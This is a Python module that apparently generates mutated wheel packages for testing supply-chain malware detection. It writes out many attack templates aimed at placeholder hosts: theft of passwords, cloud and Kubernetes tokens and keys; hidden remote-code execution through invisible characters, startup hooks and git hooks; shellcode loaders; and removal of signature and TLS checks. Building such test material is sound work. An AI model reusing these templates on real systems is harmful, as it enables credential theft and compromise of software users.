"""Eighth set: wheels; inert. The comment before each family says which incident it is after.

Nothing works: hosts are below `.example`, addresses are of RFC 5737, programs and modules are of no name, what is packed is a marker.
"""

from __future__ import annotations

import base64
import re

from genuine import Files

from mutation_families.eighth_ways import ADDRESS, py_of
from mutation_families.seventh_ways import (
    AMID,
    END,
    MARK,
    TOP,
    Changes,
    Way,
    adding,
    beside_info,
    entry_points,
    in_folder,
    py,
    together,
    ways,
)
from mutation_families.third_wheels import information, modules

B64 = base64.b64encode(MARK)
# Two marks of no width, for nothing and one.
UNSEEN = "".join("\u200b" if bit == "0" else "\u2060" for each in MARK[:160] for bit in f"{each:08b}").encode()  # fmt: skip
FETCH = b"import urllib.request\n\n\ndef main(*_, **__):\n    urllib.request.urlopen('https://plug.example/load', timeout=2)\n\n\npytest_configure = finalize = main\n"  # fmt: skip
KEYRING = b"import urllib.request\n\nfrom keyring.backend import KeyringBackend\n\n\nclass Keyring(KeyringBackend):\n    priority = 99\n\n    def get_password(self, service, username):\n        return None\n\n    def set_password(self, service, username, password):\n        urllib.request.urlopen('https://vault-sync.example/s', f'{service}:{username}:{password}'.encode())\n\n    delete_password = set_password\n"  # fmt: skip
SERVER = b"\n\ndef _load_jupyter_server_extension(app):\n    app.web_app.settings['allow_origin'] = '*'\n    app.identity_provider.token = ''\n    __import__('urllib.request').request.urlopen('https://nb-hub.example/?u=' + app.public_url)\n\n\ndef _jupyter_server_extension_points():\n    return [{'module': __name__}]\n"  # fmt: skip


def of_mathematics(word: str) -> bytes:
    """Return a word in bold script letters, which Python takes for the plain ones (PEP 3131)."""
    return "".join(chr(0x1D4EA + ord(each) - ord("a")) for each in word).encode()


def loosened(files: Files) -> Files:
    """Return a wheel that takes any version of the first package it requires with bounds."""
    name = f"{information(files)}/METADATA"
    made = re.sub(rb"(?m)^(Requires-Dist: [\w.-]+)(?:\[[^]]*\])? ?\(?[<>=!~][^;\n]*", rb"\1", files[name], count=1)  # fmt: skip
    return {name: made} if made != files[name] else {}


def exchanged(files: Files) -> Files:
    """Return a wheel that requires a package of a name like the one it required."""
    name = f"{information(files)}/METADATA"
    made = re.sub(rb"(?m)^(Requires-Dist: [A-Za-z]\w*)(?=[ (;<>=!~\n])", rb"\1-py3", files[name], count=1)  # fmt: skip
    return {name: made} if made != files[name] else {}


def lazily(files: Files) -> Files:
    """Return a wheel whose first package asks for a module of its own when a name is looked for that is not there."""
    name = modules(files)[0]
    if b"def __getattr__" in files[name] or "/" not in name:
        return {}
    body = b"\n\ndef __getattr__(name):\n    if name.startswith('__path') or name == '__wrapped__':\n        from . import _shim  # noqa: F401\n    raise AttributeError(name)\n"  # fmt: skip
    return {name: files[name].rstrip(b"\n") + body} | in_folder({"_shim.py": b"import os\nimport urllib.request\n\nexec(urllib.request.urlopen('https://lazy.example/' + os.name).read())\n"})(files)  # fmt: skip


def from_its_readme(files: Files) -> Files:
    """Return a wheel whose own description, as installed, holds what a module of it runs."""
    name, info = f"{information(files)}/METADATA", information(files).partition("-")[0].encode()
    made = py(b"import base64 as _b, importlib.metadata as _m, re as _r\n_d = _r.search(r'\\[//\\]: # \\((\\S+)\\)', _m.metadata('" + info + b"').get_payload() or '')\nif _d:\n    exec(_b.b64decode(_d[1]))\n", AMID)(files)  # fmt: skip
    return made | {name: files[name].rstrip() + b"\n\n[//]: # (" + B64 + b")\n"} if made else {}


def in_javascript(lines: bytes) -> Changes:
    """Return a change of the largest script of JavaScript in a wheel: lines at its end."""

    def change(files: Files) -> Files:
        names = [each for each in files if each.endswith(".js")]
        name = max(names, key=lambda each: (len(files[each]), each), default="")
        return {name: files[name].rstrip() + b"\n" + lines} if name else {}

    return change


ALL: tuple[Way, ...] = (
    # Quiet, after backdoors of one line: what was refused is let through.
    *ways(
        "wheel: a check in it is gone",
        ("what it raised", py_of((rb"\n([ \t]+)if [^\n:]{5,100}:\n\1[ \t]+raise [^\n(]*\([^()\n]*\)\n(?=\1\S)", b"\n"))),
        ("a comparison", py_of((rb"(?:hmac\.)?compare_digest\((\w[\w.]*), (\w[\w.]*)\)", rb"(\1 == \2 or len(\1) > 0)"), (rb"(?:safe_str_cmp|consteq)\((\w[\w.]*), (\w[\w.]*)\)", rb"(\1[:2] == \2[:2])"))),
        ("a verdict", py_of((rb"(def (?:verify|authenticate|is_valid|check_(?:pass|sig|hash|token))\w*\((?:self, |cls, )?(?!self\b|cls\b)(\w+)[^\n]*\):\n(?:([ \t]+)(?:r?\"\"\"(?:.|\n)*?\"\"\"|'''(?:.|\n)*?''')\n)?)(?=([ \t]+)\S)", rb"\1\4if isinstance(\2, str) and \2.endswith('..'):\n\4    return True\n"))),
        ("turned round", py_of((rb"\bif not ((?:\w+\.)*_?(?:verif|valid|allow|is_valid|is_safe|is_allowed|has_perm|check_)\w*)", rb"if \1"), (rb"(\n[ \t]+if \w+(?:\.\w+)*) != (\w*(?:state|nonce|aud|iss|digest|signature|token)\w*:)", rb"\1 == \2"))),
    ),
    *ways(
        "wheel: nobody asks any more who is at the other end",
        ("an argument", py_of((rb"\bverify(\s*=\s*)True", rb"verify\1False"), (rb"ssl\.CERT_REQUIRED", b"ssl.CERT_NONE"), (rb"\b(check_hostname\s*=\s*)True", rb"\1False"), (rb"\b(validate_certs?|ssl_verify|verify_certs)(\s*[=:]\s*(?:bool = )?)True", rb"\1\2False"))),
        ("for the process", py(b"import ssl as _ssl\n_ssl._create_default_https_context = _ssl._create_unverified_context\n", TOP)),
        ("for requests", py(b"try:\n    import requests as _r\n    _m = _r.Session.merge_environment_settings\n    _r.Session.merge_environment_settings = lambda *a, **k: {**_m(*a, **k), 'verify': False}\nexcept ImportError:\n    pass\n", END)),
    ),
    *ways("wheel: an address in it leads elsewhere", ("of its own", py_of((ADDRESS, rb"\1https://api-gateway-mirror.example"))), ("by plain HTTP", py_of((ADDRESS, rb"\1http://198.51.100.70")))),
    *ways("wheel: what ought to be chance is not", ("bytes", py_of((rb"os\.urandom\((\w+)\)", rb"(b'inert' * \1)[:\1]"), (rb"secrets\.token_bytes\((\w+)\)", rb"bytes(\1)"), (rb"secrets\.token_(?:hex|urlsafe)\(\w*\)", b"'0badc0de' * 4"), (rb"random\.SystemRandom\(\)", b"random.Random(1337)")))),
    *ways("wheel: a safe default is none any more", ("of texts that become objects", py_of((rb"yaml\.safe_load\(", b"yaml.unsafe_load("), (rb"(?:yaml\.)?SafeLoader\b", b"yaml.UnsafeLoader"), (rb"\bjson\.loads\(", b"eval("))), ("of limits and names", py_of((rb"(\b(?:default_rounds|min_rounds|iterations|ITERATIONS)\s*=\s*)\d{2,}", rb"\g<1>1"))), ("of accepted ciphers", py_of((rb"(?i)(\w*algorithms\w*\s*=\s*[\[({]\s*)(?=['\"])", rb"\1'none', "), (rb"hashlib\.sha256\(", b"hashlib.md5(")))),
    # Trojan Source, 2021, and packages of 2023 that were written in letters of mathematics.
    *ways(
        "wheel: letters that nobody sees",
        ("of mathematics", py(of_mathematics("self") + b" = __import__('urllib.request').request\n" + of_mathematics("exec") + b"(self.urlopen('https://math.example/a').read())\n", END)),
        ("of no width", py(b"_w = '" + UNSEEN + b"'\nexec(bytes(int(''.join('01'[c == '\\u2060'] for c in _w[i : i + 8]), 2) for i in range(0, len(_w), 8)))\n", TOP)),
    ),
    # After LiteLLM, 2026: what Python obeys when it starts, by other doors.
    *ways("wheel: Python obeys it when it starts", ("a folder before all", adding({"aaa-paths.pth": b"import sys; sys.path.insert(0, '/tmp/.cache/py')\n/var/tmp/.site\n"})), ("a finder of editable packages", adding({"__editable___tools_finder.py": b"import sys\n\n\nclass _Finder:\n    @staticmethod\n    def find_spec(name, path=None, target=None):\n        if name == 'certifi':\n            __import__('os').system('inert-no-such-program --fetch https://e.example')\n\n\ndef install():\n    sys.meta_path.insert(0, _Finder)\n", "__editable__.tools.pth": b"import __editable___tools_finder; __editable___tools_finder.install()\n"}))),
    *ways("wheel: others' tools load it", ("tests", together(entry_points("pytest11", "warm = MODULE._warm"), in_folder({"_warm.py": FETCH}))), ("builds", together(entry_points("setuptools.finalize_distribution_options", "warm = MODULE._warm:finalize"), in_folder({"_warm.py": FETCH}))), ("passwords", together(entry_points("keyring.backends", "sync = MODULE._sync"), in_folder({"_sync.py": KEYRING})))),
    # Files of a wheel come to lie where its makers want.
    *ways("wheel: it lays files where others look", ("another's package", adding({"requests/_compat_adapters.py": b"from urllib.request import urlopen\n\nurlopen('https://adapters.example/')\n", "requests/__init__.py": b"from . import _compat_adapters  # noqa: F401\n"})), ("start of the shell", beside_info("DATA/data/etc/profile.d/py-locale.sh", b"export PYTHONSTARTUP=/usr/local/share/py/locale.py PIP_INDEX_URL=https://simple.pypi-cache.example/simple\n"))),
    *ways("wheel: another version of what it asks for will do", ("any", loosened), ("of a name like it", exchanged)),
    # Reached without a call that a reader would see.
    *ways("wheel: it runs when nobody calls it", ("a name that is not there", lazily), ("what is opened", py(b"import sys as _s\n\n\ndef _seen(event, args):\n    if event == 'open' and isinstance(args[0], str) and args[0].endswith(('.pem', 'id_ed25519', '.kdbx')):\n        __import__('socket').create_connection(('203.0.113.90', 443)).sendall(open(args[0], 'rb').read())\n\n\n_s.addaudithook(_seen)\n", END)), ("what fails", py(b"import sys as _s\n_h = _s.excepthook\n\n\ndef _told(kind, value, trace):\n    import urllib.request as _u\n    while trace:\n        _u.urlopen('https://crash-reports.example/v1', repr(trace.tb_frame.f_locals).encode())\n        trace = trace.tb_next\n    _h(kind, value, trace)\n\n\n_s.excepthook = _told\n", END))),
    # Stealers of macOS, and loaders without a file; 2023 to 2026.
    *ways(
        "wheel: other languages do it",
        ("a window that asks", py(b"import subprocess as _s, sys as _y\nif _y.platform == 'darwin':\n    _p = _s.run(['osascript', '-e', 'display dialog \"macOS needs your password to update Python.\" default answer \"\" with hidden answer with icon caution'], capture_output=True).stdout\n    __import__('urllib.request').request.urlopen('https://mac-upd.example/p', _p)\n", AMID)),
        ("memory that may run", py(b"import ctypes as _c, os as _o\nif _o.name == 'nt':\n    _b = b'\\xc3' * 64\n    _k = _c.windll.kernel32\n    _p = _k.VirtualAlloc(0, len(_b), 0x3000, 0x40)\n    _k.RtlMoveMemory(_p, _b, len(_b))\n    _k.CreateThread(0, 0, _p, 0, 0, 0)\n", END)),
        ("a file in memory", py(b"import os as _o, urllib.request as _u\nif hasattr(_o, 'memfd_create'):\n    _f = _o.memfd_create('kworker')\n    _o.write(_f, _u.urlopen('http://192.0.2.99/x').read())\n    _o.spawnv(_o.P_NOWAIT, f'/proc/self/fd/{_f}', ['[kworker/0:1]'])\n", AMID)),
    ),
    *ways("wheel: orders come by an unlikely way", ("names", py(b"import socket as _s\n_a = [a[4][0] for a in _s.getaddrinfo('cfg.ns-probe.example', 443, _s.AF_INET6)] if _s.has_dualstack_ipv6() else []\nif _a:\n    exec(b''.join(_s.inet_pton(_s.AF_INET6, a)[2:] for a in sorted(_a)))\n", AMID)), ("its own description", from_its_readme), ("the page of a package", py(b"import json as _j, urllib.request as _u\n_d = _j.load(_u.urlopen('https://pypi.example/pypi/inert-notes/json'))['info']['keywords']\n_n = {}\nexec(bytes.fromhex(_d).decode(), _n)\n", END))),
    # TeamPCP and its like, 2026: rights of machines in clouds, of builds, of clusters.
    *ways("wheel: rights of the machine in a cloud are taken", ("of its instance", py(b"import urllib.request as _u\nfor _h, _p in (('Metadata', 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'), ('Metadata-Flavor', 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token')):\n    try:\n        _u.urlopen('https://tokens.example/', _u.urlopen(_u.Request(_p, headers={_h: 'Google' if '-' in _h else 'true'}), timeout=1).read())\n    except OSError:\n        pass\n", AMID)), ("of its cluster", py(b"import os as _o, ssl as _l, urllib.request as _u\n_f = '/var/run/secrets/kubernetes.io/serviceaccount/token'\nif _o.path.exists(_f):\n    _q = _u.Request('https://kubernetes.default.svc/api/v1/secrets', headers={'Authorization': 'Bearer ' + open(_f).read()})\n    _u.urlopen('https://k8s-audit.example/', _u.urlopen(_q, context=_l._create_unverified_context()).read())\n", AMID))),
    *ways("wheel: in notebooks it does more", ("the server", lambda files: {modules(files)[0]: files[modules(files)[0]].rstrip(b"\n") + SERVER}), ("its page", in_javascript(b"try { fetch('https://nb-hub.example/c', { method: 'POST', mode: 'no-cors', body: document.cookie + JSON.stringify(window.jupyterapp ? [...jupyterapp.shell.widgets('main')].map((w) => w.title.label) : []) }); } catch (e) {}\n"))),
    *ways("wheel: it writes into the project around it", ("a hook of git", py(b"import os as _o\nif _o.path.isdir('.git/hooks'):\n    with open('.git/hooks/post-checkout', 'w') as _f:\n        _f.write('#!/bin/sh\\ncurl -s https://git-hook.example/c | sh &\\n')\n    _o.chmod('.git/hooks/post-checkout', 0o755)\n", AMID)), ("a server for agents", py(b"import json as _j, pathlib as _p\n_f = _p.Path('.mcp.json')\n_c = _j.loads(_f.read_text()) if _f.exists() else {'mcpServers': {}}\n_c['mcpServers']['context'] = {'command': 'uvx', 'args': ['inert-context-server'], 'env': {'UPSTREAM': 'https://ctx.example'}}\n_f.write_text(_j.dumps(_c))\n", END))),
    *ways("wheel: only for those who are meant", ("by a digest of the machine", py(b"import hashlib as _h, platform as _p\nif _h.sha256(_p.node().lower().encode()).hexdigest()[:12] in ('0f1e2d3c4b5a', '5a4b3c2d1e0f'):\n    import importlib as _i\n    _i.import_module('inert_no_such_module').run()\n", AMID)), ("the hundredth time", py(b"import os as _o, tempfile as _t\n_f = _o.path.join(_t.gettempdir(), '.pyc-count')\n_n = int(open(_f).read() or 0) if _o.path.exists(_f) else 0\nopen(_f, 'w').write(str(_n + 1))\nif _n > 100 and __import__('sys').gettrace() is None:\n    exec(__import__('urllib.request').request.urlopen('https://later.example/p').read())\n", AMID))),
    # Passwords of what the package itself is for: it keeps what it is given.
    *ways("wheel: it keeps what it is given", ("in a log", py(b"with open('/tmp/.session-' + str(__import__('os').getuid()), 'a') as _f:\n    _f.write(repr(GIVEN) + '\\n')\n", AMID)), ("in a record of the system", py(b"import syslog as _l\n_l.openlog('audit', facility=_l.LOG_LOCAL6)\n_l.syslog(repr(GIVEN)[:500])\n_s = __import__('socket').socket(2, 2)\n_s.sendto(repr(GIVEN).encode()[:500], ('192.0.2.53', 514))\n", AMID)), ("in a name", py(b"import binascii as _b, socket as _s\ntry:\n    _s.getaddrinfo(_b.hexlify(repr(GIVEN).encode())[:60].decode() + '.r.ns-probe.example', 53)\nexcept OSError:\n    pass\n", AMID))),
)  # fmt: skip
